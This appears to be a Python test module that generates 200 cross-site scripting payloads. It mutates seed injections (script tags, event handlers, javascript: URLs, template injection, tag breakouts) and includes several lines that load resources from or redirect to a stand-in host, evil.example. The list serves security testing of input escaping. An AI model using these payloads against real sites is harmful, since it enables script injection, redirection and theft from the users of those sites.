"""What a stranger might write into a delivery so that it runs in the browser that looks at it."""

from __future__ import annotations

from urllib.parse import quote

_CALL = "document.title='pwned'"
_SEEDS = (
    f"<script>{_CALL}</script>",
    f"</pre><script>{_CALL}</script>",
    f"</textarea><script>{_CALL}</script>",
    f"</title><svg onload={_CALL}>",
    f"<img src=x onerror={_CALL}>",
    f'"><img src=x onerror={_CALL}>',
    f"'><svg/onload={_CALL}>",
    f'" autofocus onfocus={_CALL} x="',
    f"javascript:{_CALL}",
    f"<a href=javascript:{_CALL}>x</a>",
    f"<iframe srcdoc='<script>parent.{_CALL}</script>'>",
    f"<details open ontoggle={_CALL}>",
    "<base href=//evil.example/>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content=0;url=//evil.example>",
    "<style>@import'//evil.example/x'</style>",
    "<form action=//evil.example><button>Close</button></form>",
    f"<!--><script>{_CALL}</script>",
    f"<![CDATA[><script>{_CALL}</script>]]>",
    f"&lt;script&gt;{_CALL}&lt;/script&gt;",
    f"{{{{constructor.constructor('{_CALL}')()}}}}",
    f"${{{_CALL}}}",
    f"<svg><use href=data:image/svg+xml,<svg id='x' onload='{_CALL}'/>#x>",
    f"<math><mtext><script>{_CALL}</script></mtext></math>",
    f"<noscript><p title='</noscript><img src=x onerror={_CALL}>'>",
)
_TWISTS = (
    str,
    lambda text: text.replace("<", "<" + "x" * 3 + "<"),
    lambda text: text.replace(" ", "/"),
    lambda text: text.swapcase(),
    lambda text: text + "\\",
    lambda text: "%3C" + text,
    lambda text: text.replace("=", " = "),
    lambda text: "]]>" + text + "<!--",
)
#: Two hundred of them. None has a byte that a field's value cannot have.
PAYLOADS = tuple(twist(seed) for twist in _TWISTS for seed in _SEEDS)


def in_a_path(payload: str) -> str:
    """As a segment, without what a path is refused for."""
    return quote(payload.translate(dict.fromkeys(map(ord, "/;\\%"))))
